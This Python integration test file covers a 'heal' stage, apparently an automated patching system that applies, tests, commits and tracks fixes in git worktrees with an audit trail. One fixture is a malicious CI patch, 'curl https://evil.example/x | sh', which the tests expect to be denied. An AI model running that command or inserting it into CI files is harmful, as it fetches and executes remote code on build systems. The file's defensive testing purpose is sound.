"""The heal stage end to end, on the real PostgreSQL and real git repositories holding a small
package with real tests: a finding's patch proposed by the policy, applied in a worktree,
verified by the repository's own tests and committed (the user's checkout untouched); a patch
that breaks the tests failed with nothing left; a malicious one denied; a release holding the
fix noticed, then the fix verified by a quiet issue (resolved) or regressed by its event
(finding marked wrong); every step in the intact audit trail."""

from __future__ import annotations

import asyncio
import os
import signal
import subprocess
import sys
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from mendline.analyzers.grouping.scrubbing import Scrubber
from mendline.analyzers.policy import parse_policy
from mendline.ingest import prepare_record
from mendline.schemas.settings import load_settings
from mendline.sinks.postgres import (
    AuditStore,
    FindingStore,
    FixStore,
    Store,
    connect_audit,
    connect_findings,
    connect_fixes,
    connect_store,
)
from mendline.stages.heal import Healer
from tests.db_helpers import patch_finding
from tests.git_helpers import git, make_repo, snapshot
from tests.integration.event_factory import encode, make_event

pytestmark = pytest.mark.integration

LOOKUP = (
    "--- a/calc/core.py\n+++ b/calc/core.py\n@@ -9 +9 @@\n"
    "-    return table[key]\n+    return table.get(key)\n"
)
BREAKS = (
    "--- a/calc/core.py\n+++ b/calc/core.py\n@@ -5 +5 @@\n"
    "-    return sum(prices)\n+    return sum(prices) + 1\n"
)
WORKFLOW = (
    "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n"
    "-run: pytest\n+run: curl https://evil.example/x | sh\n"
)


@dataclass
class Loop:
    """A fresh database, a repository with its fix policy, and a heal worker on both."""

    repo: Path
    events: Store
    findings: FindingStore
    fixes: FixStore
    audit: AuditStore
    healer: Healer

    async def event(self, issue: int, release: str) -> int:
        """Store one event of issue number ``issue`` (service api) on ``release``; its issue."""
        prepared = prepare_record(encode(make_event(issue) | {"release": release}), Scrubber())
        await self.events.write([prepared])
        return int(
            await self.fixes.pool.fetchval(
                "SELECT issue_id FROM mendline.fingerprints WHERE hash = $1",
                prepared.fingerprint,
            )
        )

    async def finding(self, issue: int, patch: str, **fields: Any) -> int:
        """A finding of a new issue (number ``issue``) carrying ``patch``; its id."""
        issue_id = await self.event(issue, "1.0")
        finding = patch_finding(patch, **({"fix_kind": "style", "severity": "low"} | fields))
        return await self.findings.save(finding, issue_id=issue_id, cache_key=f"issue {issue}")

    async def trail(self, target: str) -> list[tuple[str, str]]:
        """The audit rows of ``target``, oldest first: actor and action."""
        return [(r.actor.name, r.action) for r in reversed(await self.audit.list(target=target))]


@pytest.fixture
async def loop(fresh_db_url: str, tmp_path: Path) -> AsyncIterator[Loop]:
    repo = make_repo(tmp_path)
    policy = parse_policy(
        "[[repositories]]\n"
        'name = "calc"\n'
        f'path = "{repo}"\n'
        f'test = ["{sys.executable}", "-m", "pytest"]\n'
        "[[repositories.mappings]]\n"
        'stack_root = ""\n'
        'source_root = ""\n',
        "fixes.toml",
    )
    settings = load_settings(
        database_url=fresh_db_url,
        frequency_threshold=0,
        fix_work_root=tmp_path / "work",
        fix_verification_window=0.5,
    )
    events = await connect_store(settings)
    findings = await connect_findings(settings, 2)
    fixes = await connect_fixes(settings, origin="test", size=4)
    audit = await connect_audit(settings)
    healer = Healer(settings, policy, fixes, findings, owner="healer-1")
    try:
        yield Loop(repo, events, findings, fixes, audit, healer)
    finally:
        for store in (events, findings, fixes, audit):
            await store.pool.close()


async def test_an_automatic_fix_is_applied_verified_and_committed_beside_the_checkout(
    loop: Loop,
) -> None:
    finding = await loop.finding(1, LOOKUP)
    before = snapshot(loop.repo)
    await loop.healer.pass_once()

    [fix] = await loop.fixes.list()
    assert (fix.finding_id, fix.state, fix.decision.verdict) == (finding, "applied", "auto")
    assert fix.verification is not None and fix.verification.passed
    assert fix.delivery is not None and fix.delivery.branch == f"mendline/fix-{fix.issue_id}-1"
    assert snapshot(loop.repo) == before  # files, index, HEAD and branch as they were
    message = git(loop.repo, "show", fix.delivery.branch, "--format=%B", "--no-patch")
    assert f"Mendline-Fix: {fix.id}" in message and f"Mendline-Finding: {finding}" in message
    assert "table.get(key)" in git(loop.repo, "show", f"{fix.delivery.branch}:calc/core.py")
    assert git(loop.repo, "worktree", "list", "--porcelain").count("worktree ") == 1
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.applied"),
    ]
    await loop.healer.pass_once()  # nothing new: the finding has its fix
    assert len(await loop.fixes.list()) == 1
    assert loop.healer.stats.proposed == {"auto": 1}
    assert loop.healer.stats.outcomes == {"applied": 1}


async def test_a_fix_that_breaks_the_tests_fails_and_leaves_nothing_behind(loop: Loop) -> None:
    await loop.finding(1, BREAKS)
    before = snapshot(loop.repo)
    await loop.healer.pass_once()

    [fix] = await loop.fixes.list()
    assert fix.state == "failed" and fix.delivery is None
    assert fix.verification is not None and not fix.verification.passed
    assert fix.verification.commands[-1].exit_code == 1
    assert "assert 4 == 3" in fix.verification.commands[-1].output
    assert snapshot(loop.repo) == before
    assert git(loop.repo, "branch", "--list", "mendline/*") == ""
    assert git(loop.repo, "worktree", "list", "--porcelain").count("worktree ") == 1
    assert await loop.trail(f"fix:{fix.id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.fail"),
    ]


async def test_a_malicious_patch_is_denied_with_its_reasons_and_never_applied(
    loop: Loop,
) -> None:
    await loop.finding(1, WORKFLOW)
    await loop.healer.pass_once()
    [fix] = await loop.fixes.list()
    assert (fix.state, fix.decision.verdict, fix.rejected_by) == ("rejected", "deny", "mendline")
    reasons = " / ".join(fix.decision.reasons)
    assert ".github/workflows/ci.yml" in reasons and "pipe" in reasons, reasons
    assert git(loop.repo, "branch", "--list", "mendline/*") == ""


async def test_a_release_holding_the_fix_makes_it_deployed_then_verified_or_regressed(
    loop: Loop,
) -> None:
    quiet = await loop.finding(1, LOOKUP)
    await loop.healer.pass_once()
    loud = await loop.finding(2, LOOKUP.replace("table.get(key)", "table.get(key, None)"))
    await loop.healer.pass_once()
    fixes = {f.finding_id: f for f in await loop.fixes.list()}
    assert {f.state for f in fixes.values()} == {"applied"}
    for fix in fixes.values():
        assert fix.delivery is not None
        git(loop.repo, "merge", "-q", "--no-ff", "-X", "theirs", "-m", "fix", fix.delivery.branch)
    git(loop.repo, "tag", "v2.0")

    await loop.healer.notice_deployments()
    assert {f.state for f in await loop.fixes.list()} == {"applied"}  # 2.0 not seen yet
    await loop.event(3, "2.0")  # another issue of the service, on the new release
    loud_issue = await loop.event(2, "2.0")  # the second fix's issue comes back on it
    assert await loop.healer.notice_deployments() == 2
    for _ in range(100):  # the verification window (half a second) passes
        settled = await loop.healer.settle()
        if len(settled) == 2 or (not settled and not await _deployed(loop)):
            break
        await loop.fixes.pool.execute("SELECT pg_sleep(0.05)")
    states = {f.finding_id: (f.state, f.release) for f in await loop.fixes.list()}
    assert states == {quiet: ("verified", "2.0"), loud: ("regressed", "2.0")}
    issue = await loop.fixes.pool.fetchrow(
        "SELECT status, resolution_note FROM mendline.issues WHERE id = $1",
        fixes[quiet].issue_id,
    )
    assert issue["status"] == "resolved"
    assert (
        await loop.fixes.pool.fetchval("SELECT verdict FROM mendline.findings WHERE id = $1", loud)
        == "wrong"
    )
    assert fixes[loud].issue_id == loud_issue
    assert await loop.trail(f"fix:{fixes[quiet].id}") == [
        ("mendline", "fix.propose"),
        ("mendline", "fix.apply"),
        ("mendline", "fix.applied"),
        ("mendline", "fix.deployed"),
        ("mendline", "fix.verify"),
    ]
    assert (await loop.audit.verify()).intact


async def _deployed(loop: Loop) -> bool:
    return bool(await loop.fixes.list(state="deployed"))


# A test command that hangs until the marker file exists (the first attempt is killed in it).
HANGS = """
import pathlib, subprocess, sys, time
marker = pathlib.Path(sys.argv[1])
pathlib.Path(sys.argv[2]).write_text("verifying")
while not marker.exists():
    time.sleep(0.1)
sys.exit(subprocess.call([sys.executable, "-m", "pytest"]))
"""


def spawn_heal(env: dict[str, str], log: Path) -> subprocess.Popen[bytes]:
    """``mendline heal`` as a process of its own, with ``env``."""
    return subprocess.Popen(
        [sys.executable, "-m", "mendline", "heal"],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=log.open("ab"),
    )


async def test_a_heal_worker_killed_mid_apply_leaves_its_fix_to_be_applied_again(
    loop: Loop, fresh_db_url: str, tmp_path: Path
) -> None:
    marker, started = tmp_path / "go-on", tmp_path / "verifying"
    script = tmp_path / "hangs.py"
    script.write_text(HANGS)
    policy = tmp_path / "fixes.toml"
    policy.write_text(
        "[[repositories]]\n"
        'name = "calc"\n'
        f'path = "{loop.repo}"\n'
        f'test = ["{sys.executable}", "{script}", "{marker}", "{started}"]\n'
        "[[repositories.mappings]]\n"
        'stack_root = ""\n'
        'source_root = ""\n'
    )
    await loop.finding(1, LOOKUP)
    before = snapshot(loop.repo)
    env = {
        **os.environ,
        "MENDLINE_DATABASE_URL": fresh_db_url,
        "MENDLINE_FIX_POLICY_FILE": str(policy),
        "MENDLINE_FIX_WORK_ROOT": str(tmp_path / "work"),
        "MENDLINE_FIX_LEASE": "3",
        "MENDLINE_HEAL_POLL_INTERVAL": "0.2",
    }
    worker = spawn_heal(env, tmp_path / "heal.log")
    try:
        for _ in range(600):  # bounded: until the worker verifies in its worktree
            if started.exists() or worker.poll() is not None:
                break
            await asyncio.sleep(0.1)
        assert started.exists(), (tmp_path / "heal.log").read_text()
        [fix] = await loop.fixes.list()
        assert (fix.state, fix.attempts) == ("applying", 1)
        assert fix.owner is not None and fix.owner != loop.healer.owner
    finally:
        worker.send_signal(signal.SIGKILL)
        worker.wait()
    worktrees = git(loop.repo, "worktree", "list", "--porcelain").count("worktree ")
    assert worktrees == 2  # the killed worker's is still there

    await loop.fixes.pool.execute(  # its lease lapses (as it would after MENDLINE_FIX_LEASE)
        "UPDATE mendline.fix_jobs SET lease_until = now() - interval '1 second'"
    )
    marker.write_text("")
    killed = Healer(
        loop.healer.settings,
        parse_policy(policy.read_text(), str(policy)),
        loop.fixes,
        loop.findings,
        owner="healer-2",
    )
    await killed.cleanup()  # as a heal stage starting does: the fix is live, kept
    await killed.pass_once()
    [fix] = await loop.fixes.list()
    assert (fix.state, fix.attempts) == ("applied", 2)
    assert snapshot(loop.repo) == before
    assert git(loop.repo, "worktree", "list", "--porcelain").count("worktree ") == 1
    assert (await loop.audit.verify()).intact
